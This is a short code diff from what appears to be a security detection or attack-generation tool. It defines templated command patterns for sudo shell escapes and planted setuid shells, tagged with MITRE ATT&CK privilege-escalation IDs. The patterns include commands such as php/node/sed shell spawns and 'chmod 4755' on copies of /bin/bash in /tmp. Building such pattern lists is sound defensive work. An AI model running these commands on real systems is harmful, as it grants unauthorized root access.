@@ -12,7 +12,7 @@ _sudo_shell = (
     "php -r \"system('/bin/sh');\"", "node -e 'require(\"child_process\").spawn(\"/bin/sh\",{stdio:[0,1,2]})'", "systemctl --pager='!sh' status", "busybox sh", "make -s --eval=$'x:\\n\\t-'/bin/sh", "sed -n '1e exec sh 1>&0' /etc/hosts", "wget --use-askpass=/tmp/<word> 0", "journalctl --no-pager=false -o cat --cursor='!/bin/sh'",
     "openvpn --dev null --script-security 2 --up '/bin/sh -c sh'", "screen -x root/ -X exec sh", "cp /bin/«sh|bash» /bin/«systemctl|mount|fdisk»", "dstat --<word>", "pip install /tmp/tmp.<word>/ --break-system-packages --no-deps -q && /tmp/rootbash -p",
 )
-typed_attack("sudo-shell-escape", attack("Privilege Escalation", "T1548.003", "T1059.004"), _sudo_shell, 3, 1.5)
+typed_attack("sudo-shell-escape", attack("Privilege Escalation", "T1548.003", "T1059.004"), _sudo_shell, 3, 1.5, ("sudo", "sudo", "sudo", "usercmd", "doas"))
 
 typed_attack("suid-planted", attack("Privilege Escalation", "T1548.001", severity="CRITICAL"), (
     "chmod «4755|u+s|+s|6755|4777|04755|ug+s» «/tmp|/var/tmp|/dev/shm|/home/<user>|/opt/.<word>»/«bash|.<word>|rootbash|sh|<word>|python3|.bash|dash|zsh|env»", "cp /bin/«bash|dash|sh|zsh» «/tmp|/var/tmp|/dev/shm»/.«<word>|x|sh|b» && chmod «+s|4755|6777» «/tmp|/var/tmp|/dev/shm»/.<word>",
